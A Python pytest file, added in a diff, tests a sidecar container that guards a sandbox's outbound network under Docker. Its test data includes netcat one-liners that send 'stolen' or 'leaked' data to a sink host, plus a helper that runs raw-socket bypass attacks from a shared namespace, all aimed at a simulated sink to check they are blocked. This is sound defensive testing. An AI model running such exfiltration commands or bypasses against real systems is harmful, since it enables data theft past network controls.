@@ -1,0 +1,193 @@
+"""The container image under a real engine, with Docker's default capabilities for the sandbox: CAP_NET_RAW is among them."""
+
+from __future__ import annotations
+
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from lab import plan
+from lab.engine import INSIDE4, MACHINE, SANDGATE, Engine, engine
+from lab.guarded import DIRECTLY, WITH_ATTACKS, Guarded, pinned, reaches
+from lab.internet import Internet
+from lab.processes import check, wait_until
+from lab.sandgate import REPOSITORY, allowing
+from lab.tool import binary
+
+MAXIMUM_SIZE = 60_000_000
+READ_ONLY = ("--read-only", "--tmpfs", "/var/log/sandgate")
+TO_SINK = ("/bin/sh", "-c", f"echo stolen | nc -w 2 {plan.SINK4} 4444")
+
+
+@pytest.fixture(scope="module")
+def docker(net: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
+    with engine(net, tmp_path_factory.mktemp("engine"), plan.DNS4) as made:
+        made.make_sandgate_image()
+        made.make_machine_image()
+        yield made
+
+
+@pytest.fixture
+def guarded(internet: Internet, docker: Engine) -> Iterator[Guarded]:
+    made = Guarded(internet, docker, allowing(plan.ALLOWED), *READ_ONLY, "--publish", "44772")
+    try:
+        yield made
+    finally:
+        made.remove()
+
+
+def test_image_is_small(docker: Engine) -> None:
+    if "libswiftCore.so" in subprocess.run(["ldd", binary()], capture_output=True, text=True).stdout:
+        pytest.skip("the program needs the Swift runtime of this machine")
+    assert int(docker.docker("image", "inspect", "--format", "{{.Size}}", SANDGATE)) < MAXIMUM_SIZE
+
+
+def test_dockerfile_makes_the_same_image(docker: Engine, tmp_path: Path) -> None:
+    """Less its first stage, whose image needs a registry: here the script that it runs is run outside."""
+    check(REPOSITORY / "deploy/build-image", "--binary", binary(), "--output", tmp_path / "image.tar")
+    _, final = (REPOSITORY / "deploy/Dockerfile").read_text().split("\nFROM scratch\n")
+    first = "FROM scratch AS build\nADD image.tar /image/\n"
+    (tmp_path / "Dockerfile").write_text(f"{first}FROM scratch\n{final}")
+    docker.docker("build", "--tag", "sandgate:built", str(tmp_path), timeout=120)
+    for field in ("Entrypoint", "Cmd", "ExposedPorts", "Healthcheck", "Labels", "User"):
+        template = f"{{{{json .Config.{field}}}}}"
+        built, local = (
+            docker.docker("image", "inspect", "--format", template, name) for name in ("sandgate:built", SANDGATE)
+        )
+        assert built == local, field
+    assert docker.docker("run", "--rm", "sandgate:built", "--help").startswith("OVERVIEW: Guard the network")
+
+
+def test_sandbox_is_guarded(internet: Internet, docker: Engine, guarded: Guarded) -> None:
+    free = docker.start()
+    assert reaches(docker, free, plan.DENIED) and reaches(docker, free, plan.DENIED, "-6")
+    assert docker.run(free, *TO_SINK).returncode == 0 and "stolen" in internet.sinks.data(), "without a sidecar"
+    docker.docker("rm", "--force", free)
+    internet.forget()
+    sandbox = guarded.sandbox()
+    assert reaches(docker, sandbox, plan.ALLOWED) and reaches(docker, sandbox, plan.ALLOWED, "-6"), guarded.log
+    assert not reaches(docker, sandbox, plan.DENIED)
+    assert not reaches(docker, sandbox, plan.DENIED, *pinned(plan.DENIED, plan.DENIED4))
+    assert not reaches(docker, sandbox, plan.DENIED, *pinned(plan.DENIED, f"[{plan.DENIED6}]"))
+    assert docker.run(sandbox, *TO_SINK).returncode != 0
+    assert internet.web.hosts() == {plan.ALLOWED} and internet.sinks.data() == ""
+    assert '"event":"dns.denied"' in guarded.log and f'"host":"{plan.DENIED}"' in guarded.log
+
+
+def test_policy_is_changed_from_outside_alone(docker: Engine, guarded: Guarded) -> None:
+    sandbox = guarded.sandbox()
+    change = ("-X", "PATCH", "-d", f'[{{"action": "allow", "target": "{plan.OTHER}"}}]')
+    url = "http://127.0.0.1:18080/policy"
+    assert "forbidden" in docker.run(sandbox, "/usr/bin/curl", "-sS", "-m", "4", *change, url).stdout
+    assert not reaches(docker, sandbox, plan.OTHER)
+    assert '"status":"ok"' in guarded.ask("/policy", *change)
+    assert reaches(docker, sandbox, plan.OTHER)
+
+
+def test_image_that_lets_the_inside_only_read(internet: Internet, docker: Engine, tmp_path: Path) -> None:
+    """As the page on OpenSandbox says that it is made: the token that passes through the sandbox changes nothing there."""
+    (tmp_path / "Dockerfile").write_text(f"FROM {SANDGATE}\nENV SANDGATE_READ_ONLY_FROM_INSIDE=true\n")
+    docker.docker("build", "--tag", "sandgate:read-only", str(tmp_path), timeout=120)
+    token = ("--env", "OPENSANDBOX_EGRESS_TOKEN=known")
+    made = Guarded(internet, docker, allowing(plan.ALLOWED), *token, image="sandgate:read-only")
+    try:
+        header = ("-H", "OPENSANDBOX-EGRESS-AUTH: known")
+        change = ("-X", "PATCH", "-d", f'[{{"action": "allow", "target": "{plan.OTHER}"}}]', *header)
+        ask = ("/usr/bin/curl", "-sS", "-m", "4", "http://127.0.0.1:18080/policy")
+        sandbox = made.sandbox()
+        assert '"status":"ok"' in docker.run(sandbox, *ask, *header).stdout
+        assert "can only be read" in docker.run(sandbox, *ask, *change).stdout
+        assert '"status":"ok"' in made.ask("/policy", *change)
+        assert reaches(docker, sandbox, plan.OTHER)
+    finally:
+        made.remove()
+
+
+def test_published_port_is_reached(internet: Internet, docker: Engine, guarded: Guarded) -> None:
+    sandbox = guarded.sandbox()
+    docker.docker("exec", "--detach", sandbox, "/bin/sh", "-c", "echo served inside | nc -l -p 44772")
+    port = docker.docker("port", guarded.sidecar, "44772/tcp").splitlines()[0].rpartition(":")[2]
+    fetch = internet.namespace.command("/bin/busybox", "nc", "-w", "2", INSIDE4, port)
+
+    def fetched() -> str:
+        return subprocess.run(fetch, stdin=subprocess.DEVNULL, capture_output=True, text=True).stdout
+
+    wait_until(lambda: "served inside" in fetched(), "the sandbox's server")
+
+
+@pytest.mark.parametrize("number", ["TERM", "KILL"])
+def test_nothing_passes_when_it_ends(internet: Internet, docker: Engine, guarded: Guarded, number: str) -> None:
+    """The sandbox keeps the network, and its rules; what it sends all the while arrives nowhere."""
+    sandbox = guarded.sandbox()
+    assert reaches(docker, sandbox, plan.ALLOWED)
+    internet.forget()
+    flood = f"while true; do echo leaked | nc -u -w 1 {plan.SINK4} 4444; echo leaked | nc -w 1 {plan.SINK4} 4444; done"
+    docker.docker("exec", "--detach", sandbox, "/bin/sh", "-c", flood)
+    docker.docker("kill", "--signal", number, guarded.sidecar)
+    wait_until(lambda: not guarded.runs(), "its end", 20)
+    assert not reaches(docker, sandbox, plan.ALLOWED, *DIRECTLY) and not reaches(docker, sandbox, plan.ALLOWED)
+    # Another container has the network by now that it had; the sandbox stays where it is.
+    docker.docker("start", guarded.sidecar)
+    guarded.wait()
+    assert not reaches(docker, sandbox, plan.ALLOWED, *DIRECTLY)
+    assert internet.sinks.data() == "" and internet.web.requests() == []
+    docker.docker("restart", "--time", "0", sandbox)
+    assert reaches(docker, sandbox, plan.ALLOWED) and not reaches(docker, sandbox, plan.DENIED)
+
+
+def test_paused(internet: Internet, docker: Engine, guarded: Guarded) -> None:
+    sandbox = guarded.sandbox()
+    assert reaches(docker, sandbox, plan.ALLOWED)
+    internet.forget()
+    docker.docker("pause", guarded.sidecar)
+    assert not reaches(docker, sandbox, plan.ALLOWED, *DIRECTLY) and not reaches(docker, sandbox, plan.ALLOWED)
+    assert internet.web.requests() == []
+    docker.docker("unpause", guarded.sidecar)
+    assert reaches(docker, sandbox, plan.ALLOWED) and not reaches(docker, sandbox, plan.DENIED)
+
+
+@pytest.mark.parametrize(
+    ("options", "words"),
+    [
+        ((), "missing CAP_NET_ADMIN: this network cannot be guarded without"),
+        (("--cap-add", "NET_ADMIN", "--cap-drop", "NET_RAW"), "missing CAP_NET_RAW"),
+        (("--cap-add", "NET_ADMIN", "--network", "host"), "this is a machine's network, not a sandbox's"),
+    ],
+)
+def test_refuses_to_start(docker: Engine, options: tuple[str, ...], words: str) -> None:
+    container = docker.docker("run", "--detach", *options, SANDGATE)
+    assert docker.docker("wait", container) != "0" and words in docker.logs(container), docker.logs(container)
+    docker.docker("rm", container)
+
+
+def test_health_check(internet: Internet, docker: Engine) -> None:
+    made = Guarded(internet, docker, allowing(plan.ALLOWED), "--health-interval", "1s")
+    try:
+        wait_until(lambda: docker.inspect(made.sidecar, "{{.State.Health.Status}}") == "healthy", "its health", 20)
+    finally:
+        made.remove()
+
+
+def attack(docker: Engine, container: str) -> None:
+    """T1 and T10: frames that go behind every inet chain, and every mark that somebody might trust."""
+    inspected = docker.inspect(container, "{{.HostConfig.NetworkMode}}").removeprefix("container:")
+    holder = container if inspected == "default" else inspected
+    address = docker.inspect(holder, "{{.NetworkSettings.IPAddress}}")
+    neighbour = docker.namespace.check("cat", "/sys/class/net/docker0/address").strip()
+    frames = [("packet", bypass, address, plan.SINK4, "4444", neighbour) for bypass in ("queue", "bypass")]
+    for words in (*frames, ("marks", plan.SINK4, "4444")):
+        docker.run(container, "/usr/bin/python3", "/attacks/shared_namespace.py", *words, timeout=60)
+
+
+def test_attacks_with_raw_sockets(internet: Internet, docker: Engine, guarded: Guarded) -> None:
+    free = docker.start(*WITH_ATTACKS, image=MACHINE)
+    attack(docker, free)
+    arrived = internet.sinks.data()
+    assert "stolen by a frame" in arrived and "stolen by a mark" in arrived, "without a sidecar"
+    docker.docker("rm", "--force", free)
+    sandbox = guarded.sandbox(*WITH_ATTACKS, image=MACHINE)
+    attack(docker, sandbox)
+    assert internet.sinks.data() == ""
+    assert reaches(docker, sandbox, plan.ALLOWED)
